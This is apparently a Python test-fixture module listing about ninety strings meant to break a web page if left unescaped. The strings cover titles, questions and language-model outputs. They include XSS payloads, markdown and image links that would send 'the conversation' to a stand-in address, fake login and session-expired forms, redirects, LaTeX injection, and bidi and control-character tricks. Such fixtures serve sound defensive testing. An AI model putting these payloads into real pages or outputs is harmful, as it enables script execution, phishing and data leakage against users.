"""Texts that would run, load or break something if not escaped: 30 of each kind on the page.

What runs sets `window.hacked`; what loads asks 198.51.100.7, an address of nobody's (RFC 5737).
"""

from __future__ import annotations

_RUN = "window.hacked=1"
_AWAY = "http://198.51.100.7"

TITLES = [
    f"<img src=x onerror={_RUN}>",
    f"<script>{_RUN}</script>",
    f"<svg onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<a href=javascript:{_RUN}>click</a>",
    f"![x]({_AWAY}/x.png)",
    f"[x](javascript:{_RUN})",
    f"<img src={_AWAY}/pixel.gif>",
    f"<link rel=stylesheet href={_AWAY}/x.css>",
    f"<style>@import '{_AWAY}/x.css'; body{{display:none}}</style>",
    f"</bdi></p></article><script>{_RUN}</script>",
    f"'\" onmouseover={_RUN} x='",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"`${{{_RUN}}}`",
    "@children {{#each value}}x{{/each}}",
    rf"$\href{{javascript:{_RUN}}}{{x}}$",
    rf"$\text{{<img src=x onerror={_RUN}/>}}$",
    rf"\(\text{{</math><img src=x onerror={_RUN}>}}\)",
    r"$$\unicode{x3c}script\unicode{x3e}$$",
    "\u202eeneg si siht\u202c",
    "\u2067rtl isolate never closed",
    f"<base href={_AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}/'>",
    f"<form action={_AWAY}/><input autofocus onfocus={_RUN}></form>",
    f"<details open ontoggle={_RUN}>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    "x" * 400,
    f"data:text/html,<script>{_RUN}</script>",
]
"""For titles and abstracts."""

QUESTIONS = [
    f"</h2></header><script>{_RUN}</script>",
    f"<ScRiPt/x>{_RUN}</sCrIpT >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<svg/onload={_RUN}//",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_RUN}>'>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<math><mi//xlink:href='data:x,<script>{_RUN}</script>'>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN} onpageshow={_RUN}>",
    f"<video poster={_AWAY}/p.png><source onerror={_RUN} src={_AWAY}/v></video>",
    f"<img srcset='{_AWAY}/a.png 1x, {_AWAY}/b.png 2x'>",
    f"<picture><source srcset={_AWAY}/c.png><img src=x></picture>",
    f"<p style='background:url({_AWAY}/bg.png);position:fixed;inset:0'>",
    f"<table background={_AWAY}/t.png>",
    f"<object data=javascript:{_RUN}><embed src=javascript:{_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    f"<button formaction=javascript:{_RUN} form=x>go</button>",
    f"{{{{ ''.__class__ }}}} {{% for x in y %}} {{{{{_RUN}}}}}",
    rf"$\url{{javascript:{_RUN}}}$ and $\includegraphics{{{_AWAY}/i.png}}$",
    rf"$\style{{background:url({_AWAY}/s.png)}}{{x}}$ $\class{{turn}}{{x}}$",
    r"$\def\x{\x\x}\x$ $\newcommand{\y}{\y\y}\y$",
    "$" + "{" * 200 + "x" + "}" * 200 + "$",
    "\u202e\u2066\u202a never closed \u200b\u200d\ufeff\u2028\u2029 at all",
    "null \x00 bell \x07 escape \x1b[31m delete \x7f next \x85 line",
    "é" + "\u0301" * 300 + " \U0001d573\U0001f468\u200d\U0001f469\u200d\U0001f467 ﷽﷽﷽",
    "w" * 3000,
    "&#60;script&#62; &#x3c;img src=x onerror=window.hacked=1&#x3e; &lt;b&gt; &amp;lt; &nbsp;",
    f"<!-- <![CDATA[ ]]> --!> <?xml version='1.0'?> <plaintext> <xmp> "
    f"<noscript><img src=x onerror={_RUN}>",
]

OUTPUTS = [
    f"<script>{_RUN}</script>",
    f"</span></p></div></article><img src=x onerror={_RUN}>",
    f'" onfocus={_RUN} autofocus tabindex=0 x="',
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
    f"<img/src={_AWAY}/leak.png?q=the+conversation>",
    f"![leak]({_AWAY}/leak.png?q=the+conversation)",
    f"![ref][r] (reference) r: {_AWAY}/leak.png",
    f"<a href='{_AWAY}/phish' target=_top ping={_AWAY}/ping>sign in again</a>",
    f"(javascript:{_RUN}) and <javascript:{_RUN}> and www.{_AWAY[7:]}",
    f"<iframe src={_AWAY}/frame.html width=2000 height=2000></iframe>",
    f"<link rel=preload as=image href={_AWAY}/p.png><link rel=dns-prefetch href={_AWAY}>",
    f"<style>*{{background:url({_AWAY}/all.png)!important;width:4000px}}</style>",
    f"<div style='width:9000px;background-image:url({_AWAY}/d.png)'>wide</div>",
    f"<meta http-equiv=refresh content=0;url={_AWAY}>",
    f"<form id=x action={_AWAY}/steal><input name=password><button>Log in</button></form>",
    f"<dialog open><h1>Session expired</h1><form action={_AWAY}></form></dialog>",
    f"<marquee onstart={_RUN}>x</marquee><details open ontoggle={_RUN}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_RUN}></annotation-xml></math>",
    f"<mglyph><style><img src=x onerror={_RUN}></style></mglyph>",
    rf"$\href{{javascript:{_RUN}}}{{x}}$ and \(\url{{{_AWAY}}}\)",
    rf"$\htmlData{{onclick={_RUN}}}{{x}}$ $\htmlStyle{{width:9000px}}{{x}}$",
    rf"\(\includegraphics[height=9em]{{{_AWAY}/i.png}}\) $\class{{said weak}}{{x}}$",
    r"$\rule{9000px}{9000px}$ $\hspace{9000px}x$ $\kern9000px x$ $\mathmakebox[9000px]{x}$",
    "```html\n<script>window.hacked=1</script>\n``` <pre><code class=language-html>",
    "\u202emoc.elpmaxe\u202c \u2067never closed \u200b\u200c\u2060",
    "nul \x00 escape \x1b]8;;http://198.51.100.7\x07link\x1b]8;;\x07 \x9b31m",
    "W" * 2500,
    "&lt;script&gt; &#x3c;img src=x onerror=window.hacked=1&#x3e; "
    "%3Cscript%3E \\u003cscript\\u003e \\x3cscript\\x3e",
    f"<title></title><textarea></textarea><noembed><xmp><plaintext><img src=x onerror={_RUN}",
]
"""For sentences and reasons that a language model writes."""
